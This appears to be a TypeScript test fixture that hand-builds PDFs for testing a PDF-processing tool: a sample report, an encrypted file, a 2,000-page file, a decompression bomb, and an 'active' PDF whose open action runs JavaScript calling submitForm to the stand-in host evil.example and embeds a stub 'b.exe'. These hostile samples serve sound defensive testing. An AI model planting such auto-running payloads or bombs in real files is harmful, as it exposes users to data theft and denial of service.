import { deflateSync } from "node:zlib";

// PDFs for tests, written by hand (ISO 32000-2 7.5): one a case, so that nothing is half-known.

interface PdfOptions {
  /** The lines of each page; a page without lines has no text. */
  pages?: (readonly (string | { text: string; size: number })[])[];
  info?: Record<string, string>;
  language?: string;
  /** Of the catalogue: `/OpenAction …`. */
  more?: string;
  /** Objects from number 5 on. */
  objects?: readonly string[];
  /** References to pages among the objects. */
  kids?: string;
  /** Of the trailer. */
  trailer?: string;
}

const inParentheses = (text: string): string => `(${text.replace(/[()\\]/g, "\\$&")})`;

const contentOf = (lines: readonly (string | { text: string; size: number })[]): string => {
  let y = 760;
  return lines
    .map((line) => {
      const { text, size } = typeof line === "string" ? { text: line, size: 11 } : line;
      y -= size * 1.5;
      return `BT /F1 ${size} Tf 60 ${y} Td ${inParentheses(text)} Tj ET`;
    })
    .join("\n");
};

export function pdfOf({
  pages = [["Text"]],
  info = {},
  language,
  more = "",
  objects = [],
  kids: own = "",
  trailer = "",
}: PdfOptions) {
  const first = 5 + objects.length;
  const kids = [...pages.map((_lines, index) => `${first + 2 * index} 0 R`), ...(own === "" ? [] : [own])];
  const all = [
    `<< /Type /Catalog /Pages 2 0 R ${language === undefined ? "" : `/Lang ${inParentheses(language)}`} ${more} >>`,
    `<< /Type /Pages /Kids [${kids.join(" ")}] /Count ${kids.length} >>`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    `<< ${Object.entries(info)
      .map(([key, value]) => `/${key} ${inParentheses(value)}`)
      .join(" ")} >>`,
    ...objects,
    ...pages.flatMap((lines, index) => {
      const content = contentOf(lines);
      return [
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents ${first + 2 * index + 1} 0 R >>`,
        `<< /Length ${Buffer.byteLength(content, "latin1")} >>\nstream\n${content}\nendstream`,
      ];
    }),
  ];
  let text = "%PDF-1.7\n";
  const places = all.map((object, index) => {
    const place = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return place;
  });
  const start = text.length;
  text += `xref\n0 ${all.length + 1}\n0000000000 65535 f \n${places.map((place) => `${String(place).padStart(10, "0")} 00000 n \n`).join("")}`;
  text += `trailer\n<< /Size ${all.length + 1} /Root 1 0 R /Info 4 0 R ${trailer} >>\nstartxref\n${start}\n%%EOF\n`;
  return Buffer.from(text, "latin1");
}

export const report = pdfOf({
  info: { Title: "Patrol by quoll: a report", Author: "Jane Roe; Kim Low", CreationDate: "D:20190311120000Z" },
  pages: [
    [
      { text: "Patrol by quoll: a report", size: 24 },
      "Jane Roe and Kim Low",
      "doi:10.1000/quoll.7   Published 2018   ISBN 978-0-306-40615-7",
      "Abstract",
      "This report is about the patrols that are made by night and of what is learnt from them in the end.",
      "Introduction",
      "The word that stands only here is numbatology.",
    ],
    ["And the second page."],
  ],
});

/** The standard security handler with a password that nobody tells (ISO 32000-2 7.6.4). */
export const encrypted = pdfOf({
  objects: [`<< /Filter /Standard /V 1 /R 2 /Length 40 /P -44 /O <${"5a".repeat(32)}> /U <${"a5".repeat(32)}> >>`],
  trailer: `/Encrypt 5 0 R /ID [<${"01".repeat(16)}> <${"01".repeat(16)}>]`,
});

export const scanned = pdfOf({ pages: [[], []] });

/** Opens with a script, brings another file, and starts a program where one clicks. */
export const active = pdfOf({
  pages: [["Press here to win."]],
  more: "/OpenAction 5 0 R /Names << /JavaScript << /Names [(a) 5 0 R] >> /EmbeddedFiles << /Names [(b.exe) 6 0 R] >> >>",
  objects: [
    "<< /S /JavaScript /JS (app.alert\\('mine'\\); this.submitForm\\('https://evil.example'\\);) >>",
    "<< /Type /Filespec /F (b.exe) /EF << /F 7 0 R >> >>",
    "<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ00\nendstream",
  ],
});

/** Two thousand pages; the last has a word of its own. */
export const long = (): Buffer =>
  pdfOf({
    pages: Array.from({ length: 2_000 }, (_, index) =>
      index === 1_999
        ? ["Here stands bandicootery."]
        : Array.from({ length: 20 }, (_line, line) => `Page ${index}, line ${line}: patrols are made by night.`),
    ),
  });

/** Half a page of spaces on paper, forty megabytes when it is unpacked. */
export function swollen(): Buffer {
  const content = deflateSync(Buffer.alloc(40 * 1024 ** 2, 32)).toString("latin1");
  return pdfOf({
    pages: [],
    kids: "6 0 R",
    objects: [
      `<< /Filter /FlateDecode /Length ${content.length} >>\nstream\n${content}\nendstream`,
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> /Contents 5 0 R >>",
    ],
  });
}
